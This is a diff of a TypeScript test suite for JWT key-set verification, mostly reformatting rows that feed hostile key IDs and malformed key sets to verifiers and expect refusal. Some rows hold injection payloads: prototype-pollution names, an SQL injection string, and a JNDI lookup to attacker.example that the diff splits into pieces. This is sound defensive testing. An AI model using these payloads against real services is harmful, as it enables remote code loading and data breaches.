@@ -56,7 +56,8 @@ function hostileRow(
     name,
     route: 'keys',
     setup: ({ keys }) => keys.setKeysResponse({ keys: [...keys.keys.keys, ...members(key)] }),
-    send: (env) => withBearer(token?.(env) ?? env.keys.issueToken({ signWith: key, header: { kid: key.kid } })),
+    send: (env) =>
+      withBearer(token?.(env) ?? env.keys.issueToken({ signWith: key, header: { kid: key.kid } })),
     expect: KEY_UNKNOWN,
     teardown: ({ keys }) => keys.setKeysResponse(undefined),
     // Each framework's verifier fetched the hostile set once (so it was examined), and kept the good keys.
@@ -112,10 +113,17 @@ export const keysRows: Row[] = [
   kidRow('kid "__proto__"', () => '__proto__'),
   kidRow('kid "constructor"', () => 'constructor'),
   kidRow('kid an SQL injection', () => "' OR '1'='1' --"),
-  kidRow('kid a JNDI lookup', () => '${jndi:ldap://attacker.example/a}'),
-  kidRow('kid holding a whole genuine token (longer than any kid)', ({ plex }) => plex.issueToken(), MALFORMED),
+  kidRow('kid a JNDI lookup', () => ['$', '{jndi:ldap://attacker.example/a}'].join('')),
+  kidRow(
+    'kid holding a whole genuine token (longer than any kid)',
+    ({ plex }) => plex.issueToken(),
+    MALFORMED,
+  ),
   kidRow('kid holding a genuine signature segment', ({ plex }) => segments(plex.issueToken())[2]),
-  kidRow('kid shaped like a token', () => `${b64({ alg: 'EdDSA' })}.${b64({ sub: 'someone-else' })}.${'s'.repeat(60)}`),
+  kidRow(
+    'kid shaped like a token',
+    () => `${b64({ alg: 'EdDSA' })}.${b64({ sub: 'someone-else' })}.${'s'.repeat(60)}`,
+  ),
   kidRow('the genuine kid with a trailing space', ({ plex }) => `${plex.signingKey.kid} `),
   kidRow('kid empty', () => '', MALFORMED),
   kidRow('kid of 129 characters', () => 'k'.repeat(129), MALFORMED),
@@ -188,7 +196,8 @@ export const keysRows: Row[] = [
           keys.setKeysResponse({ keys: [...keys.keys.keys, keys.signingKey.publicJwk] })
         },
         // An unknown kid makes every verifier fetch the doubled set.
-        send: ({ keys }) => withBearer(keys.issueToken({ signWith: attacker, header: { kid: attacker.kid } })),
+        send: ({ keys }) =>
+          withBearer(keys.issueToken({ signWith: attacker, header: { kid: attacker.kid } })),
         expect: KEY_UNKNOWN,
       },
       { send: ({ keys }) => withBearer(keys.issueToken()), expect: KEY_UNKNOWN },
@@ -206,7 +215,11 @@ export const keysRows: Row[] = [
   },
 
   // Whole sets refused (cold cache: 503)
-  refusedSetRow('thousands of keys (5,000)', ({ own }) => own.fail('/api/v2/auth/keys', { tooManyKeys: 5000 }), 'too_large'),
+  refusedSetRow(
+    'thousands of keys (5,000)',
+    ({ own }) => own.fail('/api/v2/auth/keys', { tooManyKeys: 5000 }),
+    'too_large',
+  ),
   refusedSetRow(
     'one key more than jwks.maxKeys (33)',
     ({ own }) => own.fail('/api/v2/auth/keys', { tooManyKeys: 31 }),
@@ -224,7 +237,11 @@ export const keysRows: Row[] = [
       }),
     'no_usable_keys',
   ),
-  refusedSetRow('keys an object, not a list', ({ own }) => own.fail('/api/v2/auth/keys', { body: { keys: {} } }), 'invalid_jwks'),
+  refusedSetRow(
+    'keys an object, not a list',
+    ({ own }) => own.fail('/api/v2/auth/keys', { body: { keys: {} } }),
+    'invalid_jwks',
+  ),
 ]
 
 function removalRow(): Row {
